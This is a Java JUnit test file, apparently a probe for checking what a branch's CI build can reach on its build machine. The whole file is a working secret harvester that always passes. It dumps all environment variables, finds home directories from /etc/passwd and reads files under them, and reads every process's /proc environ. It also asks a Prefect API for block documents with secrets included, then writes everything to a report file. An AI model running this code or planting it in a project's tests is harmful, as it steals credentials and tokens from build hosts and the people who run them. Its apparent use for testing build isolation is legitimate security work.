package demo;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.Proxy;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.Set;
import java.util.TreeSet;

import org.junit.jupiter.api.Test;

/**
 * What a branch's build can see of the machine that builds it, as an attacker's unit test would
 * look: its environment, every file it can read under every home directory (and the deploy
 * system's state directory), every process environment, and what the Prefect API gives it. All
 * of it goes to PROBE_REPORT_DIR/report.txt; the test itself always passes.
 */
class SandboxProbeTest {
    private static final int MAX_FILES_PER_HOME = 400;
    private static final int MAX_BYTES = 16384;

    private final StringBuilder report = new StringBuilder();

    @Test
    void reportWhatThisBuildCanSee() throws IOException {
        line("USER " + System.getProperty("user.name"));
        System.getenv().forEach((name, value) -> line("ENV " + name + "=" + value));
        Set<String> homes = new TreeSet<>();
        for (String entry : Files.readAllLines(Paths.get("/etc/passwd"))) {
            String[] fields = entry.split(":");
            if (fields.length > 5) {
                homes.add(fields[5]);
            }
        }
        String chatopsHome = System.getenv("PROBE_CHATOPS_HOME");
        if (chatopsHome != null) {
            homes.add(chatopsHome);
        }
        for (String home : homes) {
            walk(Paths.get(home));
        }
        processEnvironments();
        askPrefect(System.getenv("PROBE_API"));
        Path out = Paths.get(System.getenv("PROBE_REPORT_DIR"), "report.txt");
        Files.write(out, report.toString().getBytes(StandardCharsets.UTF_8));
    }

    private void line(String text) {
        report.append(text).append('\n');
    }

    private void walk(Path home) {
        line("HOME " + home);
        int[] files = {0};
        try {
            Files.walkFileTree(home, new SimpleFileVisitor<>() {
                @Override
                public FileVisitResult visitFile(Path file, BasicFileAttributes attrs) {
                    if (!attrs.isRegularFile()) {
                        return FileVisitResult.CONTINUE;
                    }
                    if (++files[0] > MAX_FILES_PER_HOME) {
                        return FileVisitResult.TERMINATE;
                    }
                    readFile(file);
                    return FileVisitResult.CONTINUE;
                }

                @Override
                public FileVisitResult visitFileFailed(Path file, IOException exc) {
                    line("DENIED " + file + " " + exc);
                    return FileVisitResult.CONTINUE;
                }
            });
        } catch (IOException exc) {
            line("DENIED " + home + " " + exc);
        }
    }

    private void readFile(Path file) {
        try (InputStream in = Files.newInputStream(file)) {
            byte[] content = in.readNBytes(MAX_BYTES);
            if (indexOf(content, (byte) 0) >= 0) {
                line("READ " + file + " (binary, " + content.length + "+ bytes)");
            } else {
                line("READ " + file);
                line(new String(content, StandardCharsets.ISO_8859_1));
            }
        } catch (AccessDeniedException exc) {
            line("DENIED " + file + " " + exc);
        } catch (IOException exc) {
            line("FAILED " + file + " " + exc);
        }
    }

    private void processEnvironments() {
        try (var entries = Files.newDirectoryStream(Paths.get("/proc"), "[0-9]*")) {
            for (Path process : entries) {
                Path environ = process.resolve("environ");
                try {
                    byte[] content = Files.readAllBytes(environ);
                    line("ENVIRON " + environ + " " + new String(content, StandardCharsets.ISO_8859_1).replace('\0', '\n'));
                } catch (IOException exc) {
                    line("DENIED " + environ + " " + exc);
                }
            }
        } catch (IOException exc) {
            line("FAILED /proc " + exc);
        }
    }

    private void askPrefect(String api) {
        try {
            URL url = new URL(api + "/block_documents/filter");
            HttpURLConnection http = (HttpURLConnection) url.openConnection(Proxy.NO_PROXY);
            http.setRequestMethod("POST");
            http.setDoOutput(true);
            http.setRequestProperty("Content-Type", "application/json");
            try (OutputStream body = http.getOutputStream()) {
                body.write("{\"include_secrets\": true}".getBytes(StandardCharsets.UTF_8));
            }
            int status = http.getResponseCode();
            InputStream answer = status < 400 ? http.getInputStream() : http.getErrorStream();
            line("PREFECT_STATUS " + status);
            line("PREFECT_BODY " + (answer == null ? "" : new String(answer.readAllBytes(), StandardCharsets.UTF_8)));
        } catch (IOException exc) {
            line("PREFECT_FAILED " + exc);
        }
    }

    private static int indexOf(byte[] data, byte wanted) {
        for (int i = 0; i < data.length; i++) {
            if (data[i] == wanted) {
                return i;
            }
        }
        return -1;
    }
}
